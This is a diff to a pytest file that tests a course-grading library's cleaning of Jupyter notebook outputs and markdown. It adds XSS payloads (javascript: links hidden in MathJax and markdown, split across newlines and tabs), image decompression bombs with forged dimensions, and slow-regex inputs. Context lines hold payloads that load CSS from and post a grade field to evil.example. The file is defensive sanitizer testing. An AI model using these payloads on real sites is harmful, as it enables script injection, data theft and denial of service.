@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import io
+import time
 
 import pytest
 from bs4 import BeautifulSoup
@@ -11,8 +13,17 @@ from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
 
 from course_lib.grading import clean
+from course_lib.grading import page as shown
 
-PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()
+
+def png(width: int, height: int) -> str:
+    """The beginning of a picture."""
+    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
+    head = b"\x89PNG\r\n\x1a\n" + (13).to_bytes(4, "big") + b"IHDR"
+    return base64.b64encode(head + size + bytes(20)).decode()
+
+
+PNG = png(3, 5)
 SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
 ATTACKS = (
     "<script>alert(1)</script>",
@@ -38,6 +49,10 @@ ATTACKS = (
     "<style>@import 'http://evil.example/x.css'</style>",
     "<form action=http://evil.example><input name=grade></form>",
     "$\\href{javascript:alert(1)}{x}$",
+    "$\\\\href{javascript:alert(1)}{x}$",
+    "$\\\\\\href{java\nscript:alert(1)}{x}$",
+    "$\\\\\\\\require{action}\\\\def\\x{1}$",
+    "[x][y]\n\n[y]: java\tscript:alert(1)",
     "$\\ href{javascript:alert(1)}{x} \\style{color:red}{x}$",
     "$$\\require{action}\\def\\x{\\href}\\x{javascript:alert(1)}{x}$$",
     "$\\class{x}{\\cssId{save}{y}}$",
@@ -125,10 +140,43 @@ def test_only_text_and_pictures_stay_of_outputs():
 
 @pytest.mark.adversarial
 def test_outputs_are_bounded():
-    many = [new_output("stream", text="x" * 10_000_000) for _ in range(500)]
+    text = "x" * 10_000_000
+    many = [new_output("stream", text=text) for _ in range(500)]
     kept, left = clean.outputs(many)
     assert len(str(kept)) < 2 * clean.WHOLE and left == 0
     assert kept[-1].text.startswith("[more output")
+
+
+@pytest.mark.adversarial
+def test_a_small_file_with_a_huge_picture_is_none():
+    image = pytest.importorskip("PIL.Image")
+    for kind, form in (("image/png", "PNG"), ("image/jpeg", "JPEG")):
+        stream = io.BytesIO()
+        image.new("RGB", (31, 17)).save(stream, form)
+        assert clean.pixels(stream.getvalue()) == 31 * 17
+        data = base64.b64encode(stream.getvalue()).decode()
+        (kept,), _ = clean.outputs([new_output("display_data", data={kind: data})])
+        assert kept.data == {kind: data}
+        assert shown.image(kind, data, "x") is not None
+        bomb = stream.getvalue()
+        if form == "PNG":
+            bomb = base64.b64decode(png(2**31 - 1, 2**31 - 1))
+        else:
+            bomb = bomb.replace((17).to_bytes(2, "big") + (31).to_bytes(2, "big"), b"\xff" * 4)
+        assert clean.pixels(bomb) > clean.PIXELS
+        for given in (bomb, bomb[:14]):  # or it does not say how large it is
+            data = base64.b64encode(given).decode()
+            (kept,), _ = clean.outputs([new_output("display_data", data={kind: data})])
+            assert "not shown" in kept.text and shown.image(kind, data, "x") is None
+
+
+@pytest.mark.adversarial
+@pytest.mark.parametrize("piece", ["\\", "\\a", "]", "] ", "j a", "&a", "data ", "<", "java\n"])
+def test_to_clean_a_long_text_takes_a_moment(piece):
+    started = time.process_time()
+    for text in (piece * 200_000, piece + " " * 400_000, "x" + piece * 100_000 + ":"):
+        clean.markdown(text)
+    assert time.process_time() - started < 10
 
 
 def test_honest_markdown_and_the_releases_cells_stay():
